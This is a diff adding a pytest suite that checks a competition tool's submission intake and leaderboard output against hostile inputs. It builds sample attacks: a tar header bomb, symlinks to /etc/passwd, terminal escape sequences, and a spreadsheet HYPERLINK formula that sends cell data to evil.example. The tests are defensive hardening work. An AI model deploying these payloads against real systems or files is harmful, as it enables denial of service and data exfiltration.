@@ -1,0 +1,433 @@
+"""Hostile submissions, archives and plugin text (issue 14: hardened intake, safe output).
+
+Each test builds the hostile input in tmp_path, says in a comment what it achieved on main at
+7ad67e8 (checked by running the old arena/plugins/{manifest,submit}.py and
+arena/leaderboard/render.py on the same input), and asserts that it is contained now with a
+message naming the file and the field, never a traceback.
+"""
+import csv
+import gzip
+import io
+import json
+import re
+import subprocess
+import sys
+import tarfile
+import zlib
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+from rich.console import Console
+from rich.errors import MarkupError
+
+from arena.cli import main
+from arena.core import paths
+from arena.leaderboard import render, safe_text
+from arena.leaderboard.build import build
+from arena.plugins.spec import submission_files
+from arena.sandbox import SandboxLimits, run_defense_job
+from arena.sandbox.jobs import effective_limits
+from arena.score.store import ResultsStore
+from arena.submissions.manifest import SubmissionError, content_hash, load_manifest, plugin_spec
+from arena.submissions.submit import MAX_FILES, unpack
+from arena.submissions.validate import synthetic_batches, tiny_model_file, validate
+
+TOML = 'name = "{name}"\ntrack = "{track}"\nentry = "plugin:P"\nauthors = ["t"]\nversion = "1"\n'
+ATTACK = ("from arena import Attack\nclass P(Attack):\n"
+          "    def run(self, batch, model, budget):\n        return batch.wave\n")
+
+
+def make_sub(folder: Path, extra_toml: str = "", code: str = ATTACK, name="hostile",
+             track="attack") -> Path:
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "submission.toml").write_text(TOML.format(name=name, track=track) + extra_toml)
+    (folder / "plugin.py").write_text(code)
+    return folder
+
+
+@pytest.fixture
+def arena_dirs(tmp_path, monkeypatch):
+    subs, base = tmp_path / "installed", tmp_path / "baselines"
+    monkeypatch.setenv("ARENA_SUBMISSIONS", str(subs))
+    monkeypatch.setenv("ARENA_BASELINES", str(base))
+    base.mkdir()
+    return subs
+
+
+def assert_clean_cli_error(res, *words):
+    """A click error (exit 1, 'Error: ...') or a report; never an uncaught exception."""
+    assert res.exit_code != 0
+    assert res.exception is None or isinstance(res.exception, SystemExit), res.exception
+    assert "Traceback" not in res.output
+    for w in words:
+        assert w in res.output, res.output
+
+
+# ------------------------------------------------------------------ TOML
+def test_deeply_nested_toml_is_refused_with_its_line(tmp_path):
+    # before: tomllib recursed once per '[' and `arena validate` / `arena submit` died with
+    # RecursionError (a traceback)
+    sub = make_sub(tmp_path / "nested", "x = " + "[" * 5000 + "]" * 5000 + "\n")
+    with pytest.raises(SubmissionError, match=r"submission\.toml: line 6: arrays or tables nested "
+                                              r"deeper than 4 levels"):
+        load_manifest(sub)
+    res = CliRunner().invoke(main, ["validate", str(sub), "--json"])
+    assert res.exit_code == 1 and isinstance(res.exception, (SystemExit, type(None)))
+    assert "nested deeper" in json.loads(res.output)["errors"][0]
+    # brackets inside strings and comments are not nesting
+    ok = make_sub(tmp_path / "ok", 'description = "[[[[[[[[ \\" ]]]] {{{{"  # [[[[[[[[\n')
+    assert load_manifest(ok).description.startswith("[[[[[[[[")
+
+
+def test_huge_and_odd_toml_values_name_the_field(tmp_path):
+    # before: a 5,000-digit integer raised ValueError out of tomllib (a traceback)
+    sub = make_sub(tmp_path / "digits", "[limits]\nwall_s = " + "9" * 5000 + "\n")
+    with pytest.raises(SubmissionError, match=r"submission\.toml: not valid TOML: .*4300"):
+        load_manifest(sub)
+    big = make_sub(tmp_path / "big", "description = '" + "x" * (70 * 1024) + "'\n")
+    with pytest.raises(SubmissionError, match=r"submission\.toml: is \d+ bytes, more than 64 KiB"):
+        load_manifest(big)
+    (big / "submission.toml").write_bytes(b'name = "\xff"\n')
+    with pytest.raises(SubmissionError, match=r"submission\.toml: not UTF-8"):
+        load_manifest(big)
+    for extra, words in [("version = 1979-05-27\n", "field 'version' must be a string"),
+                         ('authors = [["nested"]]\n', "field 'authors' entry 0 must be a string"),
+                         ("limits = [1]\n", "field 'limits' must be a table")]:
+        text = TOML.format(name="odd", track="attack")
+        key = extra.split(" ")[0]
+        text = "\n".join(ln for ln in text.splitlines() if not ln.startswith(key)) + "\n" + extra
+        (big / "submission.toml").write_text(text)
+        (big / "plugin.py").write_text(ATTACK)
+        with pytest.raises(SubmissionError, match=r"submission\.toml: " + re.escape(words)):
+            load_manifest(big)
+
+
+@pytest.mark.parametrize("value,words", [
+    ("nan", "key 'wall_s' must be a finite number above 0"),
+    ("inf", "key 'wall_s' must be a finite number above 0"),
+    ("-inf", "key 'wall_s' must be a finite number above 0"),
+    ("1e300", "key 'wall_s' must be a finite number above 0 and at most 1000000000"),
+    ("true", "key 'wall_s' must be a number (got True)"),
+    ('"60"', "key 'wall_s' must be a number (got '60')"),
+])
+def test_nan_and_inf_limits_are_refused(tmp_path, value, words):
+    sub = make_sub(tmp_path / "lim", f"[limits]\nwall_s = {value}\n")
+    with pytest.raises(SubmissionError, match=r"submission\.toml: field 'limits' " + re.escape(words)):
+        load_manifest(sub)
+
+
+def test_nan_integer_limit_would_have_crashed_the_sandbox(tmp_path):
+    # before: `memory_mb = nan` passed the manifest check (nan <= 0 is False) and the sandbox
+    # then died in int(nan) with a ValueError traceback, as it still would if it got one
+    with pytest.raises(ValueError):
+        effective_limits(SandboxLimits(), {"memory_mb": float("nan")})
+    sub = make_sub(tmp_path / "lim", "[limits]\nmemory_mb = nan\n")
+    with pytest.raises(SubmissionError,
+                       match=r"field 'limits' key 'memory_mb' must be an integer \(got nan\)"):
+        load_manifest(sub)
+    (sub / "submission.toml").write_text(TOML.format(name="lim", track="attack")
+                                         + "[limits]\nmax_procs = 1.5\n")
+    with pytest.raises(SubmissionError, match=r"key 'max_procs' must be an integer \(got 1\.5\)"):
+        load_manifest(sub)
+    report = validate(sub, wall_s=30)
+    assert not report.ok and "max_procs" in report.errors[0]
+
+
+# ------------------------------------------------------------------ names and text fields
+@pytest.mark.parametrize("toml_line,field", [
+    ('name = "real-name\\n"', "name"),          # a second row next to the real one
+    ('name = "real-name\\r"', "name"),
+    ('entry = "plugin:P\\n"', "entry"),
+    ('version = "1\\u001b[2J"', "version"),     # clears the terminal
+    ('authors = ["Ada\\u001b]0;pwned\\u0007"]', "authors"),
+    ('description = "a\\u202ebackwards"', "description"),  # bidi override
+    ('description = "two\\nlines"', "description"),
+])
+def test_names_full_match_and_text_fields_refuse_control_characters(tmp_path, toml_line, field):
+    # before: the name regex was ^...$ used with match(): "$" also matches before a trailing
+    # newline, so "real-name\n" passed and printed as a second leaderboard row
+    assert re.match(r"^[a-z0-9][a-z0-9-]{1,39}$", "real-name\n")
+    key = toml_line.split(" ")[0]
+    sub = make_sub(tmp_path / "n")
+    text = "\n".join(ln for ln in TOML.format(name="n-ok", track="attack").splitlines()
+                     if not ln.startswith(key + " ")) + "\n" + toml_line + "\n"
+    (sub / "submission.toml").write_text(text)
+    with pytest.raises(SubmissionError, match=rf"submission\.toml: field '{field}'"):
+        load_manifest(sub)
+
+
+# ------------------------------------------------------------------ symlinks and special files
+def test_symlinked_manifest_is_not_followed(tmp_path, arena_dirs):
+    # before: load_manifest followed the link and accepted whatever TOML it pointed to
+    # (here a file outside the submission, naming another competitor)
+    outside = tmp_path / "elsewhere.toml"
+    outside.write_text(TOML.format(name="someone-else", track="attack"))
+    sub = make_sub(tmp_path / "sym")
+    (sub / "submission.toml").unlink()
+    (sub / "submission.toml").symlink_to(outside)
+    with pytest.raises(SubmissionError, match=r"submission\.toml: is a symlink; refused"):
+        load_manifest(sub)
+    assert "is a symlink" in validate(sub, wall_s=30).errors[0]
+    res = CliRunner().invoke(main, ["submit", str(sub)])
+    assert_clean_cli_error(res, "submission.toml", "symlink")
+    assert not arena_dirs.exists() or not any(arena_dirs.iterdir())
+
+
+def test_symlinks_anywhere_in_a_submission_are_refused(tmp_path):
+    # before: a symlink next to the code was copied into the sandbox as a link, and
+    # content_hash hashed its target text, not what the plugin would read through it
+    sub = make_sub(tmp_path / "deep")
+    (sub / "pkg" / "data").mkdir(parents=True)
+    (sub / "pkg" / "data" / "weights.bin").symlink_to("/etc/passwd")
+    for call in (load_manifest, content_hash, submission_files):
+        with pytest.raises(ValueError, match=r"pkg/data/weights\.bin: is a symlink; refused"):
+            call(sub)
+    report = validate(sub, wall_s=30)
+    assert not report.ok and "pkg/data/weights.bin: is a symlink" in report.errors[0]
+    (sub / "pkg" / "data" / "weights.bin").unlink()
+    import os
+    os.mkfifo(sub / "pkg" / "pipe")
+    with pytest.raises(SubmissionError, match=r"pkg/pipe: is a device, fifo"):
+        load_manifest(sub)
+
+
+def test_directories_count_toward_the_limit_in_a_folder(tmp_path):
+    sub = make_sub(tmp_path / "many")
+    for i in range(MAX_FILES):
+        (sub / f"d{i}").mkdir()
+    with pytest.raises(SubmissionError, match=r"more than 2000 files and folders \(folders count\)"):
+        load_manifest(sub)
+
+
+# ------------------------------------------------------------------ archives
+def _tar_with(path: Path, plain: Path, extra):
+    with tarfile.open(path, "w:gz") as t:
+        for f in ("submission.toml", "plugin.py"):
+            t.add(plain / f, arcname=f)
+        for info in extra:
+            t.addfile(info)
+    return path
+
+
+def test_tar_with_20000_directories_is_refused(tmp_path, arena_dirs):
+    # before: only regular files were counted, so 20,000 directories (94 kB of .tar.gz)
+    # unpacked to 20,002 entries under the 2,000-file limit
+    plain = make_sub(tmp_path / "plain")
+    dirs = []
+    for i in range(20_000):
+        ti = tarfile.TarInfo(f"d{i}")
+        ti.type = tarfile.DIRTYPE
+        dirs.append(ti)
+    archive = _tar_with(tmp_path / "dirs.tar.gz", plain, dirs)
+    with pytest.raises(SubmissionError, match=r"more than 2000 files and folders \(folders count\)"):
+        unpack(archive, tmp_path / "out")
+    assert sum(1 for _ in (tmp_path / "out").iterdir()) <= MAX_FILES + 1
+    # folders a path only implies count too: 1,500 files each in its own folder
+    implied = []
+    for i in range(1500):
+        ti = tarfile.TarInfo(f"d{i}/x.py")
+        implied.append(ti)
+    archive = _tar_with(tmp_path / "implied.tar.gz", plain, implied)
+    with pytest.raises(SubmissionError, match="folders count"):
+        unpack(archive, tmp_path / "out2")
+    res = CliRunner().invoke(main, ["submit", str(tmp_path / "dirs.tar.gz")])
+    assert_clean_cli_error(res, "folders count")
+
+
+def _header_bomb(path: Path, stated: int) -> Path:
+    """A .tar.gz whose first header is a GNU long name stating `stated` bytes of zeros: one
+    gzip member per MiB of zeros (gzip readers join members), ~1 kB each."""
+    head = tarfile.TarInfo("././@LongLink")
+    head.type, head.size = tarfile.GNUTYPE_LONGNAME, stated
+    mib = zlib.compressobj(9, zlib.DEFLATED, 31)
+    zeros = mib.compress(b"\0" * (1 << 20)) + mib.flush()
+    with open(path, "wb") as f:
+        f.write(gzip.compress(head.tobuf(format=tarfile.GNU_FORMAT)))
+        for _ in range(stated >> 20):
+            f.write(zeros)
+        f.write(gzip.compress(b"\0" * 1024))
+    return path
+
+
+PEAK = """
+import resource, sys
+from arena.submissions.submit import unpack, SubmissionError
+before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+try:
+    unpack(sys.argv[1], sys.argv[2])
+    print("accepted")
+except SubmissionError as e:
+    print("refused:", e)
+print("grew_mb", (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024)
+"""
+
+
+def test_tar_header_bomb_keeps_memory_bounded(tmp_path):
+    # before: tarfile read the long-name header whole, so this 1 MB archive made
+    # `arena submit` allocate 1 GB (peak RSS 1,058 MB, then "archive member '' has an empty
+    # path"); now the header read is refused before it happens
+    bomb = _header_bomb(tmp_path / "bomb.tar.gz", 1 << 30)
+    assert bomb.stat().st_size < 2 << 20
+    out = subprocess.run([sys.executable, "-c", PEAK, str(bomb), str(tmp_path / "out")],
+                         capture_output=True, text=True, timeout=300)
+    assert out.returncode == 0, out.stderr
+    assert "refused: bomb.tar.gz: an archive header asks for 1073741824 bytes, more than 64 KiB" in out.stdout
+    grew = int(out.stdout.split("grew_mb")[1])
+    assert grew < 64, out.stdout
+
+
+def test_chained_pax_headers_are_capped(tmp_path):
+    # before: tarfile followed 400 chained pax headers recursively: RecursionError traceback
+    raw = io.BytesIO()
+    for i in range(400):
+        pax = tarfile.TarInfo(f"p{i}")
+        pax.type = tarfile.XHDTYPE
+        body = b"30 comment=" + b"x" * 18 + b"\n"
+        pax.size = len(body)
+        raw.write(pax.tobuf(format=tarfile.USTAR_FORMAT) + body + b"\0" * (512 - len(body)))
+    raw.write(b"\0" * 1024)
+    archive = tmp_path / "chain.tar"
+    archive.write_bytes(raw.getvalue())
+    with pytest.raises(SubmissionError, match=r"chain\.tar: the headers of one archive member take "
+                                              r"more than 64 KiB|chained too deeply"):
+        unpack(archive, tmp_path / "out")
+
+
+def test_tar_of_a_folder_made_with_dot_unpacks(tmp_path, arena_dirs):
+    # `tar -C folder -czf sub.tgz .` writes a "./" member: the folder itself, not a hazard
+    src = make_sub(tmp_path / "src", name="dotted")
+    archive = tmp_path / "dot.tgz"
+    with tarfile.open(archive, "w:gz") as t:
+        t.add(src, arcname=".")
+    assert (unpack(archive, tmp_path / "out") / "submission.toml").is_file()
+
+
+# ------------------------------------------------------------------ the content hash
+LISTING = '''
+import os
+from arena import Defense
+HERE = os.path.dirname(os.path.abspath(__file__))
+class P(Defense):
+    def transcribe(self, batch, model):
+        seen = []
+        for root, dirs, files in os.walk(HERE):
+            rel = os.path.relpath(root, HERE)
+            for n in dirs:
+                seen.append(os.path.normpath(os.path.join(rel, n)) + "/")
+            for n in files:
+                seen.append(os.path.normpath(os.path.join(rel, n)))
+        extra = open(os.path.join(HERE, "tuning.pyo")).read().strip()
+        return [extra + " " + " ".join(sorted(seen))] * len(batch.ids)
+'''
+
+
+def test_hash_covers_exactly_the_files_the_sandbox_gets(tmp_path):
+    # before: content_hash skipped *.pyo while the sandbox copy included them, so editing
+    # tuning.pyo changed what this defense answers without changing its content hash (the
+    # scorer reused the old cells); SUBMISSION.json was copied in but not hashed
+    sub = make_sub(tmp_path / "pyo", code=LISTING, name="pyo-reader", track="defense")
+    (sub / "tuning.pyo").write_text("alpha")
+    (sub / "pkg" / "empty").mkdir(parents=True)
+    (sub / "pkg" / "w.bin").write_bytes(b"\1\2")
+    (sub / "__pycache__").mkdir()
+    (sub / "__pycache__" / "plugin.cpython-311.pyc").write_bytes(b"stale bytecode")
+    (sub / "sourceless.pyc").write_bytes(b"importable without a .py")
+    (sub / "SUBMISSION.json").write_text('{"source": "/host/path"}')
+    batches = synthetic_batches()[:1]
+    model = tiny_model_file(tmp_path)
+
+    def run():
+        r = run_defense_job(plugin_spec(sub), model, batches, limits=SandboxLimits(wall_s=60))
+        assert r.status == "ok", r.error
+        return r.batches[0].transcripts[0]
+
+    def hashed_list():
+        return " ".join(sorted(f.rel + ("/" if f.is_dir else "") for f in submission_files(sub)))
+
+    h1, out1 = content_hash(sub), run()
+    assert hashed_list() == "pkg/ pkg/empty/ pkg/w.bin plugin.py submission.toml tuning.pyo"
+    assert out1 == "alpha " + hashed_list()   # the sandbox saw exactly the hashed list
+    (sub / "tuning.pyo").write_text("omega")
+    h2, out2 = content_hash(sub), run()
+    assert out2 == "omega " + hashed_list() and h2 != h1   # behaviour changed: so did the hash
+    (sub / "pkg" / "empty" / "again").mkdir()    # an empty folder is visible: hashed too
+    h3 = content_hash(sub)
+    assert h3 != h2 and run() == "omega " + hashed_list()
+    (sub / "__pycache__" / "plugin.cpython-311.pyc").write_bytes(b"other")  # never copied
+    (sub / "SUBMISSION.json").write_text("{}")                              # nor this
+    assert content_hash(sub) == h3
+
+
+# ------------------------------------------------------------------ output
+HOSTILE_ERROR = ("boom [/] [bold red]x \x1b[2J\x1b]0;pwned\x07\r\u202eevil "
+                 f"{paths.PACKAGE}/sandbox/worker.py")
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
+
+
+def _store_with_hostile_cells(root: Path) -> ResultsStore:
+    store = ResultsStore(root)
+    m = dict(ids=["u1"], word_edits=[1], words=[4], char_edits=[2], chars=[16], track="attack",
+             attack_error=HOSTILE_ERROR)
+    axes = dict(model="dense", split="dev", seed_tag="t", profile="quick")
+    store.put("c1", "clean", dict(m, word_edits=[0], attack_error=None), defense="none", **axes)
+    store.put("d1", "defense", m, error=FORMULA, attack="noise", budget="snr30", defense="none", **axes)
+    store.put("a1", "attack", {}, error=HOSTILE_ERROR, attack="noise", budget="snr30", **axes)
+    store.set_meta("last_run", {"profile": "quick", "split": "dev", "seed_tag": "t",
+                                "problems": [f"{paths.ROOT}/submissions/x: <b>bad</b> [/]"]})
+    return store
+
+
+def test_terminal_table_shows_markup_and_escapes_as_text(tmp_path):
+    # before: the error was printed as rich markup: "[/]" raised MarkupError, so
+    # `arena leaderboard` crashed for as long as the cell existed; ESC sequences reached the
+    # terminal raw (here: clear screen, retitle the window)
+    with pytest.raises(MarkupError):
+        Console(file=io.StringIO()).print(f"[red]not scored[/red]: {HOSTILE_ERROR}")
+    _store_with_hostile_cells(tmp_path / "lb")
+    res = CliRunner().invoke(main, ["leaderboard", "--store", str(tmp_path / "lb")],
+                             env={"COLUMNS": "400"})
+    assert res.exit_code == 0, res.output
+    out = res.output
+    assert "\x1b" not in out and "\x07" not in out and "\r" not in out and "\u202e" not in out
+    assert "boom [/] [bold red]x \\x1b[2J\\x1b]0;pwned\\x07\\x0d\\u202eevil" in out
+    assert str(paths.PACKAGE) not in out and str(paths.ROOT) not in out
+    assert "<checkout>/submissions/x: <b>bad</b> [/]" in out     # not_scored, path redacted
+
+
+def test_csv_and_html_outputs_are_neutralised(tmp_path):
+    # before: cells.csv held the error verbatim, so a spreadsheet opening it ran the formula;
+    # the HTML page escaped <> but passed control characters and host paths through
+    store = _store_with_hostile_cells(tmp_path / "lb")
+    board = build(store.cells(), store.meta())
+    render.write_files(board, tmp_path / "out")
+    with open(tmp_path / "out" / "cells.csv", newline="") as f:
+        rows = list(csv.DictReader(f))
+    errors = [r["error"] for r in rows if r["error"]]
+    assert errors == ["'" + FORMULA]
+    texts = [v for r in rows for v in r.values() if v and not re.fullmatch(r"-?[\d.e+-]+", v)]
+    assert texts and all(not v.startswith(safe_text.CSV_TRIGGERS) for v in texts)
+    assert all("\x1b" not in v for r in rows for v in r.values())
+    page = (tmp_path / "out" / "index.html").read_text()
+    assert "<b>bad</b>" not in page and "&lt;b&gt;bad&lt;/b&gt;" in page
+    assert "\x1b" not in page and "\\x1b[2J" in page and str(paths.PACKAGE) not in page
+    text = render.to_csv(board)
+    assert "\x1b" not in text and not re.search(r"(^|,)[=+@]", text, re.M)
+    res = CliRunner().invoke(main, ["leaderboard", "--store", str(tmp_path / "lb"), "--csv"])
+    assert res.exit_code == 0 and "\x1b" not in res.output
+
+
+@pytest.mark.parametrize("value,expected", [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "\\x09x"),
+    ("fine", "fine"), (-0.5, -0.5), (None, None)])
+def test_csv_cell(value, expected):
+    assert safe_text.csv_cell(value) == expected
+
+
+def test_host_paths_become_placeholders():
+    text = (f"File \"{paths.PACKAGE}/sandbox/worker.py\", line 3; {paths.ROOT}/submissions/x; "
+            f"/tmp/arena-job-ab_12/input; /home/alice/src/p.py; https://x.org/home/page")
+    out = safe_text.redact_paths(text)
+    assert str(paths.ROOT) not in out and "alice" not in out
+    assert '"<arena>/sandbox/worker.py"' in out and "<job>/input" in out
+    assert "~/src/p.py" in out and "https://x.org/home/page" in out
